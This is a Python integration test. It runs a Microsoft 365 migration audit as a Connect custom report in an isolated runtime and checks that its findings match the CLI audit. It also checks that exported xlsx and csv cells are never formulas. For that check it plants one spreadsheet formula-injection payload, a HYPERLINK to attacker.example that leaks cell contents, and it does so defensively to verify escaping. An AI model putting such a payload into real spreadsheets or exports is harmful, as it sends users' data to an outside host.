"""The audit as a Connect custom report, run as Connect's Reports runtime runs it: ``connect_reports/`` copied
apart (as the runtime clones it) and imported without installing anything, by an interpreter whose environment
holds only connect-reports-core 26.x and connect-openapi-client (Python 3.8 when the machine has it), against the
sandbox after the real extension migrated CSP assets and anomalies were planted. It finds what ``m365move audit``
finds on the same data (same anomalies, same counts), and its xlsx and csv cells are never formulas."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import shutil
import subprocess
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from m365move.cli import main
from tests.audit.connect_plants import connect_environment, plant_connect_anomalies
from tests.connect.sandbox_fixtures import connect_rig
from tests.connect_reports.reports_env import ROOT, reports_python

pytestmark = pytest.mark.slow
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?"&A1)'
# Partner Center is not read from inside Connect: its two checks run in `m365move audit --partner-center-url`.
WITHOUT_PARTNER_CENTER = ("duplicate-target", "cancelled-before-targets-completed", "seat-mismatch", "stuck-migration")


def audit_json(options: list[str]) -> dict[str, Any]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        main(["audit", *options, "--format", "json"])
    return json.loads(out.getvalue())  # type: ignore[no-any-return]


def test_the_report_runs_in_the_reports_runtime_and_finds_what_the_audit_finds(tmp_path: Path) -> None:
    python = reports_python()
    version = subprocess.run([str(python), "-c", "import sys; print(sys.version_info[:2])"], capture_output=True,
                             text=True, check=True).stdout.strip()
    has_m365move = subprocess.run([str(python), "-c", "import m365move"], capture_output=True, cwd=tmp_path, check=False,
                                  env={"PATH": "/usr/bin:/bin"})  # as the report is run below: nothing inherited
    assert has_m365move.returncode != 0, "the reports environment must not reach m365move"
    clone = tmp_path / "reports-repository"
    shutil.copytree(ROOT / "connect_reports", clone, ignore=shutil.ignore_patterns("__pycache__"))
    with pytest.MonkeyPatch.context() as patch, connect_rig(12) as rig:
        rig.driver.run_until_settled(timeout=300)
        options = connect_environment(rig, patch)
        planted_on = plant_connect_anomalies(rig)
        hostile_asset = planted_on["seat-mismatch"]
        rig.connect.assets[hostile_asset].setdefault("tiers", {}).setdefault("customer", {})["name"] = HOSTILE_NAME
        rig.connect.changed()
        connect_only = [o for i, o in enumerate(options) if o != "--partner-center-url"
                        and (i == 0 or options[i - 1] != "--partner-center-url")]
        audited = audit_json(connect_only)
        config = rig.driver.config
        parameters = {"csp_product": {"all": False, "choices": config["CSP_PRODUCT_IDS"].split(",")},
                      "nce_product": {"all": False, "choices": config["NCE_PRODUCT_IDS"].split(",")}}
        done = subprocess.run(
            [str(python), str(Path(__file__).with_name("run_report.py")), str(clone),
             f"{rig.server.url}/public/v1", str(tmp_path), json.dumps(parameters)],
            capture_output=True, text=True, timeout=900, cwd=tmp_path,
            env={"M365MOVE_CONNECT_API_KEY": rig.section["connect"]["api_key"], "PATH": "/usr/bin:/bin"},
        )
    assert done.returncode == 0, f"Python {version}: {done.stderr[-3000:]}"
    outcome = json.loads(done.stdout.splitlines()[-1])
    assert outcome["schema_errors"] is None and outcome["errors"] == []
    assert all(not path.startswith(str(ROOT / "m365move")) for path in outcome["modules"]), outcome["modules"]
    rows = outcome["rows"]["json"]
    assert len(rows) == 12 and outcome["progress"] == [12, 12]

    # The same anomalies on the same assets as `m365move audit --connect-url`, and the same counts.
    reported = Counter((r["CSP asset"], code) for r in rows for code in filter(None, r["Anomaly codes"].split(", ")))
    found = Counter((f["subscription_id"], f["code"]) for f in audited["findings"])
    assert reported == found
    counts = Counter(code for _, code in reported.elements())
    assert counts == Counter(audited["anomalies_by_code"]) == Counter(WITHOUT_PARTNER_CENTER)
    assert {code: asset for asset, code in reported} == {code: planted_on[code] for code in WITHOUT_PARTNER_CENTER}

    # Spreadsheet cells are text, never formulas: the xlsx cell and the csv cell of the hostile customer name.
    hostile = next(r for r in rows if r["CSP asset"] == hostile_asset)
    assert hostile["Customer"].startswith(HOSTILE_NAME)  # json: the value as it is
    sheet = load_workbook(outcome["written"]["xlsx"])["Data"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    with zipfile.ZipFile(outcome["written"]["csv"]) as pack:
        text = pack.read("report.csv").decode("utf-8")
    rows_csv = csv.reader(io.StringIO(text), delimiter=";")  # (connect-reports-core writes ;-separated CSV)
    customers = [line[2] for line in rows_csv if len(line) > 2 and "HYPERLINK" in line[2]]
    assert customers and all(c.startswith("'=") for c in customers)
    header, *data = outcome["xlsx"]
    assert header[0] == "CSP asset" and len(data) == 12
